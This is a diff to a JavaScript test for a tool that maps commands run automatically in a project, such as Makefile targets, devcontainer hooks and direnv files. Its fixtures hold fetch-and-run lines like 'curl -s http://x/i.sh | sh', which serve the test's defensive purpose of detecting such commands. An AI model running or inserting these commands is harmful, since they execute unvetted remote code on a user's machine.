@@ -238,7 +238,7 @@ describe('autorun map: git, python and the rest', () => {
 
   it('lists Makefile default target, devcontainer, direnv, Docker, compose and husky commands', () => {
     const map = mapOf({
-      Makefile: '.PHONY: all\nall: deps\n\t@echo done\n\ndeps:\n\tcurl -s http://x/i.sh | sh\n\nclean:\n\trm -rf x\n',
+      Makefile: '.PHONY: all\nall: deps\n\t@go build ./...\n\t@echo done\n\ndeps:\n\tcurl -s http://x/i.sh | sh\n\nclean:\n\trm -rf x\n',
       '.devcontainer/devcontainer.json': '{ // c\n "postCreateCommand": "bash .devcontainer/setup.sh",\n "initializeCommand": ["echo", "hi"],\n}',
       '.devcontainer/setup.sh': '',
       '.envrc': '# direnv\nuse node\ncurl x | sh\n',
@@ -248,7 +248,7 @@ describe('autorun map: git, python and the rest', () => {
       '.husky/_/husky.sh': 'x',
     });
     const make = map.filter((e) => e.trigger === 'make').map((e) => [e.line, e.command]);
-    assert.deepEqual(make, [[6, 'curl -s http://x/i.sh | sh'], [3, 'echo done']]);
+    assert.deepEqual(make, [[7, 'curl -s http://x/i.sh | sh'], [3, 'go build ./...']]);
     assert.deepEqual(find(map, (e) => e.label === 'postCreateCommand').leadsTo, ['.devcontainer/setup.sh']);
     assert.equal(find(map, (e) => e.label?.startsWith('initializeCommand') === true).command, 'echo hi');
     assert.equal(find(map, (e) => e.trigger === 'direnv').line, 2);
